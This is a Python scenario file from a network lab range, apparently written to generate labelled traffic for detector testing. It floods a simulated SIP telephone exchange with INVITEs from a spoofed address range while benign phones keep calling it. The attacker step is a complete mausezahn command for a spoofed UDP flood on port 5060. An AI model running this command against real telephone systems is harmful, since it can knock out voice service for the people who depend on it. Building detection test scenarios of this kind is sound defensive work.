"""INVITEs for a telephone exchange from a forged network, beside telephones that use it."""

from lab.range import Range
from lab.scenario import Scenario
from lab.scenarios.benign.voice_call import EXCHANGE


def run(net: Range) -> None:
    attacker, exchange = net.outside("attacker"), net.inside("exchange", 50)
    phones = [net.inside("phone1"), net.inside("phone2")]
    exchange.start("/usr/bin/python3", "-c", EXCHANGE)
    net.everyday()
    for phone in phones:
        net.loop(phone, f"sipsak -s sip:anna@{exchange.ip}", 1.0)
    net.quiet(2)
    with net.attack(
        "udp-flood",
        by=attacker,
        victims=[exchange],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"udp and dst host {exchange.ip} and dst port 5060",
        responses=f"src host {exchange.ip} and dst net 203.0.113.0/24",
    ):
        words = "mausezahn eth0 -q -b 00:25:90:51:00:01 -A 203.0.113.0/24 -c 10"
        invite = f"INVITE sip:100@{exchange.ip} SIP/2.0 Max-Forwards: 70"
        command = f"{words} -B {exchange.ip} -a {attacker.mac} -d 3ms -P '{invite}' -t udp sp=5060,dp=5060"
        net.tool(attacker, "sh", "-c", command, seconds=25)
    net.quiet(3)


SCENARIO = Scenario(
    name="udp-flood-held-sip",
    about="mausezahn sends an exchange ten INVITEs from each address of a forged network, 300 a second.",
    detectors=("udp-flood",),
    tools={"mausezahn": "netsniff-ng", "sipsak": "sipsak"},
    snap_octets=100,
    run=run,
)
